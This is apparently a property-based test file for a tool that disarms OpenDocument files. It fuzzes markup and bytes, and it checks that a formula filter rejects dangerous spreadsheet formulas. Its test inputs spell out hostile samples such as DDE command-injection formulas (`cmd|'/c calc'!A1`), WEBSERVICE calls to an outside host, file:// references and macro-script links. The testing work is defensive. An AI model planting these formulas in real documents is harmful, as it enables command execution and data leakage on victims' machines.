import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { odfFormulaAllowed } from '../../verify/odf-formula.ts'
import { verifyClean } from '../../verify/index.ts'
import { disarmBytes } from '../engine.ts'
import { Context } from '../family.ts'
import { readEntry, readZip } from '../zip/read.ts'
import { writeZip } from '../zip/write.ts'
import { harmlessFormula } from './formula.ts'
import { PICTURE, content, frame, image, odf, sheet } from './specimen.test-support.ts'

/** Keeps whatever a profile may keep, so that what was kept once is kept again. */
const OPTIONS = { profile: { title: 'keep' } } as const

/** What is wrong with the answer to any bytes at all; nothing when the promises hold. */
function broken(bytes: Uint8Array, type: string): string {
  const { report, output } = disarmBytes(bytes, type, OPTIONS)
  if (report.reason === 'ENG-CRASH') return 'crash'
  if (!output) return report.verdict === 'refused' ? '' : 'success without bytes'
  const clean = verifyClean(output, report.outputType)
  if (!clean.clean) return `${clean.reason} ${clean.where}`
  return unsteady(output, report.outputType)
}

/** What is accepted must be what would be written. */
function unsteady(bytes: Uint8Array, type: string): string {
  const verdict = verifyClean(bytes, type)
  if (!verdict.clean) return verdict.reason === 'VERIFY-CRASH' ? 'verifier crashed' : ''
  const { report, output } = disarmBytes(bytes, type, OPTIONS)
  if (!output) return `accepted and refused ${report.reason}`
  if (report.removed.length > 0) return `accepted and removed ${report.removed[0]?.rule}`
  return Buffer.from(output).equals(Buffer.from(bytes)) ? '' : 'accepted and written otherwise'
}

const PIECES = [
  '<text:p>',
  '</text:p>',
  '<text:span text:style-name="T1">',
  '</text:span>',
  '文字',
  '  ',
  '<text:section text:name="s" text:display="none">',
  '</text:section>',
  '<text:section-source xlink:href="file:///x"/>',
  '<draw:frame>',
  '</draw:frame>',
  '<draw:object xlink:href="./Object 1"/>',
  '<draw:object xlink:href="Object 2/"/>',
  '<draw:object-ole xlink:href="./Object 1"/>',
  image('./ObjectReplacements/Object 1'),
  image('Pictures/a.png'),
  image('http://e/a.png'),
  '<draw:image><office:binary-data>',
  Buffer.from(PICTURE).toString('base64'),
  '</office:binary-data></draw:image>',
  '<text:a xlink:href="http://e.example/ a">',
  '</text:a>',
  '<office:annotation><dc:creator>',
  '</dc:creator></office:annotation>',
  '<office:event-listeners><script:event-listener/>',
  '</office:event-listeners>',
  '<foreign:x a="b">',
  '</foreign:x>',
  '<office:body><office:text>',
  '</office:text></office:body>',
  '<office:document office:mimetype="application/vnd.oasis.opendocument.chart">',
  '</office:document>',
  '<table:table table:name="t"><table:table-row table:number-rows-repeated="9999999">',
  '<table:table-cell table:formula="of:=DDE(1)" office:value-type="float"/>',
  '<table:table-cell table:formula="of:=HYPERLINK(&quot;http://e.example&quot;)"/>',
  '</table:table-row></table:table>',
  '<field:fieldmark-start field:type="vnd.oasis.opendocument.field.FORMTEXT"/>',
  '<field:fieldmark-end/>',
  '<field:fieldmark-separator/>',
  '<office:meta><dc:title>題</dc:title>',
  '</office:meta>',
  '<form:text form:control-implementation="ooo:com.sun.star.form.component.TextField" xlink:href="x">',
  '</form:text>',
  '<math:math a="b" display="block"><math:mi>',
  '</math:mi></math:math>',
  '<text:execute-macro>',
  '</text:execute-macro>',
  '<text:list-level-style-image xlink:href="http://e/x.png"/>',
  '<style:map style:condition="DDE(1)"/>',
]

/** Closes what is open and drops what closes nothing, so that most combinations are well-formed. */
function balance(pieces: readonly string[]): string {
  const open: string[] = []
  let text = ''
  for (const tag of pieces.join('').match(/<[^>]+>|[^<]+/g) ?? []) {
    const name = /^<\/?([\w:-]+)/.exec(tag)?.[1] ?? ''
    if (tag.startsWith('</')) {
      if (open[open.length - 1] !== name) continue
      open.pop()
    } else if (tag.startsWith('<') && !tag.endsWith('/>')) open.push(name)
    text += tag
  }
  const closing = open.toReversed().map((name) => `</${name}>`)
  return text + closing.join('')
}

const MEMBERS = {
  'Pictures/a.png': PICTURE,
  'Object 1/content.xml': content(
    'chart',
    '',
    '<chart:chart xlink:href=".." chart:class="chart:bar"/>',
  ),
  'Object 2/content.xml': content('odt', '', frame('<draw:object xlink:href="./Object 1"/>')),
  'ObjectReplacements/Object 1': PICTURE,
}

describe('combined and damaged OpenDocument files', () => {
  it.each(['odt', 'ods', 'odp', 'fodt'])(
    'any arrangement of pieces in %s keeps the promises',
    (type) => {
      fc.assert(
        fc.property(fc.array(fc.constantFrom(...PIECES), { maxLength: 24 }), (pieces) => {
          expect(broken(odf({ type, body: balance(pieces), members: MEMBERS }), type)).toBe('')
        }),
        { numRuns: 150 },
      )
    },
  )

  it('any bytes changed in the file keep them', () => {
    const file = odf({
      type: 'odt',
      body: frame(image('Pictures/a.png')),
      members: MEMBERS,
      styles: '',
    })
    fc.assert(
      fc.property(fc.nat(file.length - 1), fc.nat(255), (at, byte) => {
        const changed = Uint8Array.from(file)
        changed[at] = byte
        expect(broken(changed, 'odt')).toBe('')
      }),
      { numRuns: 150 },
    )
  })

  const WORDS = [
    'text:p',
    'text:a',
    'draw:frame',
    'draw:object',
    'office:body',
    'office:text',
    'xlink:href',
    'table:formula',
    'office:version',
    'draw:image',
    'dc:title',
    'office:meta',
    'config:name',
    'text:c',
    '1',
    '',
    'x',
    'DDE',
    'SUM',
    'Pictures',
    'text',
    '..',
  ]
  const clean = disarmBytes(
    odf({
      type: 'ods',
      meta: '<office:meta><dc:title>題</dc:title></office:meta>',
      settings:
        '<office:settings><config:config-item-set config:name="ooo:view-settings"><config:config-item config:name="ZoomValue" config:type="short">90</config:config-item></config:config-item-set></office:settings>',
      body: `${sheet('of:=SUM([.A1])+1')}<table:table table:name="b"><table:shapes>${frame(`<draw:object xlink:href="./Object 1"/>${image('ObjectReplacements/Object 1')}`)}<text:p><text:a xlink:href="https://e.example/">葛<text:s text:c="2"/></text:a></text:p>${frame(image('Pictures/a.png'))}</table:shapes></table:table>`,
      members: MEMBERS,
    }),
    'ods',
    OPTIONS,
  ).output

  it('words exchanged in a clean file: what is still accepted is what would be written', () => {
    const parts = partsOf(clean ?? new Uint8Array())
    expect(unsteady(clean ?? new Uint8Array(), 'ods')).toBe('')
    fc.assert(
      fc.property(fc.nat(), fc.nat(), fc.constantFrom(...WORDS), (which, where, word) => {
        const target = which % parts.length
        const changed = parts.map(({ name, bytes }, index) => ({
          name,
          bytes:
            index === target && !name.startsWith('Pictures')
              ? exchanged(bytes, where, word)
              : bytes,
          stored: name === 'mimetype',
        }))
        expect(unsteady(writeZip(changed), 'ods')).toBe('')
      }),
      { numRuns: 400 },
    )
  })
})

function partsOf(bytes: Uint8Array): { readonly name: string; readonly bytes: Uint8Array }[] {
  const context = new Context()
  const zip = readZip(bytes, context)
  return zip.entries.map((entry) => ({ name: entry.name, bytes: readEntry(zip, entry, context) }))
}

/** One word of the markup or of the text becomes another. */
function exchanged(bytes: Uint8Array, where: number, word: string): Uint8Array {
  const text = Buffer.from(bytes).toString('latin1')
  const all = [...text.matchAll(/[A-Za-z0-9:.]+/g)]
  const chosen = all[where % Math.max(1, all.length)]
  if (!chosen) return bytes
  return Buffer.from(
    text.slice(0, chosen.index) + word + text.slice(chosen.index + chosen[0].length),
    'latin1',
  )
}

describe('formulas', () => {
  const rules = { links: 'keep', lostSheets: new Set<string>() } as const
  const token = fc.constantFrom(
    'of:',
    '=',
    'SUM',
    'DDE',
    'INDIRECT',
    'HYPERLINK',
    'COM.MICROSOFT.',
    'A-',
    '(',
    ')',
    ';',
    '|',
    '{',
    '}',
    '"',
    '""',
    "'",
    '[',
    ']',
    '.A1',
    '$Sheet1',
    '#',
    '#REF!',
    'file:',
    '//',
    '\\\\',
    'http://e.example/',
    ' ',
    '\n',
    '1',
    '1.5E+3',
    'TRUE',
    '表',
    '&',
    '-',
    '!',
    'Err:501',
  )

  it('are judged alike on both sides, whatever the tokens', () => {
    fc.assert(
      fc.property(fc.array(token, { maxLength: 14 }), (tokens) => {
        const formula = tokens.join('')
        const written = harmlessFormula(formula, rules)
        if (written !== undefined) expect(odfFormulaAllowed(written)).toBe(true)
        if (odfFormulaAllowed(formula)) expect(written).toBe(formula)
      }),
      { numRuns: 4000 },
    )
  })

  it.each([
    'of:=DDE ("soffice";"x";"y")',
    'of:=DDE\n("soffice";"x";"y")',
    'of:=[.A1]-DDE("cmd";"a";"b")',
    'of:=[.A1]-INDIRECT("\'file:///x\'#A.A1")',
    "of:=cmd|'/c calc'!A1",
    "of:={cmd|'/c calc'!A1}",
    'of:=HYPERLINK("vnd.sun.star.script:M.M")',
    'of:=HYPERLINK([.A1])',
    'of:=HYPERLINK("http://e.example/"&[.A1])',
    'of:=com.microsoft.webservice("http://e/")',
    'of:=COM.SUN.STAR.SHEET.ADDIN.EVIL.GETX(1)',
    "of:='file:///x.ods'#Name",
    "of:=['file:///x.ods'#$Sheet1.A1]",
    'msoxl:=SUM(A1)',
    'of:=SUM([.A1)',
    'of:="open',
  ])('does not keep %s', (formula) => {
    expect(harmlessFormula(formula, rules)).toBeUndefined()
    expect(odfFormulaAllowed(formula)).toBe(false)
  })

  it('of text-only towns link nowhere', () => {
    const formula = 'of:=HYPERLINK("https://e.example/")'
    expect(harmlessFormula(formula, rules)).toBe(formula)
    expect(harmlessFormula(formula, { ...rules, links: 'text-only' })).toBeUndefined()
  })
})
